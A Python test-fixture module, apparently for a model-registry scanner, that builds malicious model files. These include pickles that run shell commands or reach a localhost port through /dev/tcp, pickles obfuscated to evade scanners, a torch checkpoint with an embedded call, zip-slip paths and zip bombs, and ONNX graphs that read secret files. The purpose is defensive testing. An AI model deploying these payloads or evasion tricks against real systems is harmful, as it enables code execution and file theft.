"""Files that try to break in, made byte by byte: pickles that call, archives that lie, graphs that reach out.

Every maker returns a file's bytes. A `Trap` says what the file would do if anything of it were run: make the canary
file, call the listening port, read the secret.
"""

import io
import json
import os
import pickle
import stat
import struct
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import onnx
from onnx import TensorProto, helper

from registry.testing.onnx_models import blob_detector


@dataclass(frozen=True, slots=True)
class Trap:
    """What would show that a file got through: a canary it makes, a port it calls, a secret it reads."""

    canary: Path
    port: int
    secret: Path

    @property
    def command(self) -> str:
        """A shell line that makes the canary and calls the port."""
        return f"touch {self.canary}; echo x > /dev/tcp/127.0.0.1/{self.port}"


class _Call:
    """Pickles as a call of `function` with `arguments`."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self._call


def calling(module: str, name: str, *arguments: object, protocol: int = 2) -> bytes:
    """A pickle that calls `module.name(*arguments)` when it is loaded, without that name being importable here."""
    given = pickle.dumps(arguments, protocol)
    if protocol >= 4:
        return b"\x80\x04" + _texts(module, name) + b"\x93" + _unframed(given) + b"R."
    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n" + given[2:-1] + b"R."


def _texts(*texts: str) -> bytes:
    """A protocol 4 pickle's opcodes that push short texts."""
    return b"".join(b"\x8c" + bytes([len(text)]) + text.encode() for text in texts)


def _hidden(line: str) -> dict[str, bytes]:
    """Calls of `os.system(line)` that look like a harmless name to who only reads the last texts before the call."""
    harmless = _texts("collections", "OrderedDict")
    pushed = {
        "a name popped": _texts("os", "system") + harmless + b"00",
        "a name popped to a mark": _texts("os", "system") + b"(" + harmless + b"1",
        "a name taken by a tuple": _texts("os", "system") + harmless + b"\x860",
        "a name doubled and popped": _texts("os", "system") + harmless + b"2000",
        "a name remembered": _texts("os") + b"\x940" + _texts("system") + b"\x940" + harmless + b"00h\x00h\x01",
    }
    call = b"\x93" + _unframed(pickle.dumps((line,), 4)) + b"R."
    return {what: b"\x80\x04" + opcodes + call for what, opcodes in pushed.items()}


def _unframed(data: bytes) -> bytes:
    """A protocol 4 pickle's opcodes between its frame and its end."""
    body = data[2:]
    return (body[9:] if body[:1] == b"\x95" else body)[:-1]


def torch_archive(data: bytes, more: Mapping[str, bytes] | None = None, folder: str = "archive") -> bytes:
    """A PyTorch zip checkpoint with `data` as its pickle."""
    members = {"data.pkl": data, "version": b"3\n", "byteorder": b"little", **(more or {})}
    return archive({f"{folder}/{name}": content for name, content in members.items()})


def archive(members: Mapping[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        for name, content in members.items():
            file.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


def hostile_pickles(trap: Trap) -> dict[str, bytes]:
    """Pickles that run something, by what they try."""
    line = trap.command
    nested = pickle.dumps({"model": [{"deep": _Call(exec, f"open({str(trap.canary)!r}, 'w')")}]}, 2)
    return {
        "os.system": calling("os", "system", line),
        "posix.system": calling("posix", "system", line, protocol=4),
        "subprocess": calling("subprocess", "check_output", ["sh", "-c", line]),
        "python 2 subprocess": calling("commands", "check_output", ["sh", "-c", line]),
        "eval": calling("builtins", "eval", f"open({str(trap.canary)!r}, 'w')"),
        "python 2 eval": calling("__builtin__", "eval", f"open({str(trap.canary)!r}, 'w')"),
        "nested": nested,
        "module attribute": calling("torch.serialization", "os.system", line, protocol=4),
        "ultralytics alias": calling("ultralytics.utils", "subprocess.run", ["sh", "-c", line], protocol=4),
        "torch.hub": calling("torch.hub", "load", "nobody/nothing", "model"),
        "numpy gadget": calling("numpy.f2py.crackfortran", "myeval", f"open({str(trap.canary)!r}, 'w')"),
        "pip": calling("pip", "main", ["install", "nothing"]),
        "import": calling("importlib", "import_module", "antigravity"),
        "socket": calling("socket", "create_connection", ("127.0.0.1", trap.port)),
        "partial": calling("functools", "partial", "print"),
        "read a file": calling("numpy", "fromfile", str(trap.secret)),
        "name made while loading": b"\x80\x04"
        + _texts("os")
        + b"cbuiltins\nstr\n"
        + _texts("system")
        + b"\x85R\x93"
        + _texts("true")
        + b"\x85R.",
        "name by number": b"\x80\x02\x82\x01)R.",
        **_hidden(line),
    }


def legacy_checkpoint(content: object) -> bytes:
    """What PyTorch wrote before it wrote zip archives: pickles one behind the other, then the weights."""
    import torch

    buffer = io.BytesIO()
    torch.save(content, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def hostile_legacy_checkpoint(trap: Trap) -> bytes:
    """A checkpoint of that kind with weights, and a call beside them."""
    import torch

    return legacy_checkpoint({"model": {"weight": torch.zeros(4)}, "epoch": _Call(os.system, trap.command)})


def past_the_scan(trap: Trap) -> bytes:
    """A checkpoint whose names alarm nobody, and that calls a function through a package's own import of another."""
    return torch_archive(
        calling("ultralytics.nn.tasks", "attempt_download_asset", f"http://127.0.0.1:{trap.port}/x.pt")
    )


def lambda_config(depth: int) -> dict[str, Any]:
    """A Keras configuration with a Lambda layer `depth` models deep."""
    layer: dict[str, Any] = {"class_name": "Lambda", "config": {"function": ["4wEAAA==", None, None]}}
    for _ in range(depth):
        layer = {"class_name": "Functional", "module": "keras", "config": {"layers": [layer]}}
    return layer


def keras_archive(config: Mapping[str, Any]) -> bytes:
    """A `.keras` file."""
    members = {
        "metadata.json": b"{}",
        "config.json": json.dumps(config).encode(),
        "model.weights.h5": b"\x89HDF\r\n\x1a\n",
    }
    return archive(members)


def keras_hdf5(config: Mapping[str, Any]) -> bytes:
    """The start of an HDF5 file and a configuration as it lies in one."""
    return b"\x89HDF\r\n\x1a\n" + bytes(88) + b"model_config" + bytes(4) + json.dumps(config).encode() + bytes(64)


def tensorflow_graph(operator: str, *, in_function: bool = False) -> bytes:
    """A frozen graph of one node, or of a function of one."""
    node = _field(1, b"n") + _field(2, operator.encode())
    if in_function:
        return _field(2, _field(1, _field(3, node)))  # library, function, node_def
    return _field(1, node)


def saved_model(operator: str, *, in_function: bool = False) -> bytes:
    """A SavedModel's `saved_model.pb` of one node, or of a function of one."""
    return b"\x08\x01" + _field(2, _field(2, tensorflow_graph(operator, in_function=in_function)))


def hostile_archives() -> dict[str, bytes]:
    """Zip archives that lead out, lie or burst."""
    link = zipfile.ZipInfo("archive/data.pkl")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr(link, "/etc/passwd")
    doubled = io.BytesIO()
    with zipfile.ZipFile(doubled, "w") as file:
        file.writestr("archive/data.pkl", b"N.")
        file.writestr(zipfile.ZipInfo("archive/DATA.pkl"), b"N.")
    whole = torch_archive(b"\x80\x02N.")
    return {
        "a link": buffer.getvalue(),
        "a name that climbs": archive({"archive/data.pkl": b"N.", "../../evil": b"x"}),
        "an absolute name": archive({"archive/data.pkl": b"N.", "/etc/cron.d/evil": b"x"}),
        "a Windows name": archive({"archive/data.pkl": b"N.", "..\\evil": b"x"}),
        "a drive": archive({"archive/data.pkl": b"N.", "C:/evil": b"x"}),
        "a huge name": archive({"archive/data.pkl": b"N.", "a" * 5_000: b"x"}),
        "a doubled name": doubled.getvalue(),
        "a bomb": archive({"archive/data.pkl": bytes(64 << 20)}, zipfile.ZIP_DEFLATED),
        "thousands of members": archive({f"archive/{number}": b"" for number in range(20_001)}),
        "an encrypted member": _encrypted(whole),
        "cut off": whole[:-40],
        "a member that lies": _oversized(whole),
        "nothing of a model": archive({"readme.txt": b"hello"}),
    }


def _encrypted(data: bytes) -> bytes:
    """The archive with the flag of encryption on every member."""
    place = data.index(b"PK\x01\x02")
    return data[: place + 8] + b"\x01\x00" + data[place + 10 :]


def _oversized(data: bytes) -> bytes:
    """The archive with a directory that claims a first member of 4 GB."""
    place = data.index(b"PK\x01\x02")
    return data[: place + 24] + struct.pack("<I", 0xFFFFFFF0) + data[place + 28 :]


def hostile_graphs(trap: Trap) -> dict[str, bytes]:
    """ONNX files that reach for other files, engines or endless time."""
    return {
        "external data": _with(lambda model: model.graph.initializer.append(_external(trap.secret))),
        "external data in a constant": _with(
            lambda model: model.graph.node.insert(
                0, helper.make_node("Constant", [], ["stolen"], value=_external(trap.secret))
            )
        ),
        "a compiled engine": _with(
            lambda model: model.graph.node.insert(
                0,
                helper.make_node(
                    "EPContext", [], ["engine"], domain="com.microsoft", ep_cache_context=str(trap.secret)
                ),
            )
        ),
        "terabytes in a few bytes": _with(
            lambda model: model.graph.initializer.append(
                TensorProto(name="huge", data_type=TensorProto.FLOAT, dims=[1 << 40])
            )
        ),
        "an endless loop": _with(_append_loop),
        "small parts by the million": blob_detector() + _field(7, b"\x0a\0" * 1_000_000),
        "a list that doubles": _with(_append_doubling),
    }


def _with(change: Callable[[onnx.ModelProto], object]) -> bytes:
    model = onnx.load_model_from_string(blob_detector())
    change(model)
    return bytes(model.SerializeToString())


def _external(path: Path) -> TensorProto:
    tensor = TensorProto(name="stolen", data_type=TensorProto.UINT8, dims=[4], data_location=TensorProto.EXTERNAL)
    tensor.external_data.add(key="location", value=str(path))
    return tensor


def _field(number: int, content: bytes) -> bytes:
    """A field of bytes in a protobuf message, its length in five bytes."""
    length = bytes(len(content) >> 7 * index & 0x7F | 0x80 for index in range(4)) + bytes([len(content) >> 28])
    return bytes([number << 3 | 2]) + length + content


def _append_doubling(model: onnx.ModelProto) -> None:
    """Nodes whose values, which follow from the file alone, are of twice as many numbers each time."""
    model.graph.initializer.append(helper.make_tensor("list0", TensorProto.INT64, [1024], list(range(1024))))
    for step in range(17):
        names = [f"list{step}"] * 2
        model.graph.node.append(helper.make_node("Concat", names, [f"list{step + 1}"], axis=0))


def _append_loop(model: onnx.ModelProto) -> None:
    going = helper.make_tensor_value_info("going", TensorProto.BOOL, [])
    round_ = helper.make_tensor_value_info("round", TensorProto.INT64, [])
    body = helper.make_graph([helper.make_node("Identity", ["going"], ["on"])], "body", [round_, going], [going])
    body.output[0].name = "on"
    model.graph.node.append(helper.make_node("Loop", ["", ""], [], name="for ever", body=body))
